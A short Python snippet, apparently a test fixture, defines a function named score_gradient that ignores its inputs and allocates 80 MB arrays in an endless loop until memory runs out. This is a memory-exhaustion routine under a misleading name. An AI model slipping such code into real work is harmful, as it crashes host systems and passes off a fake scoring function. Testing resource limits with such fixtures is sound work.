import numpy as np


def score_gradient(A, G):
    hoard = []
    while True:
        hoard.append(np.ones(10 ** 7))  # 80 MB at a time until memory runs out
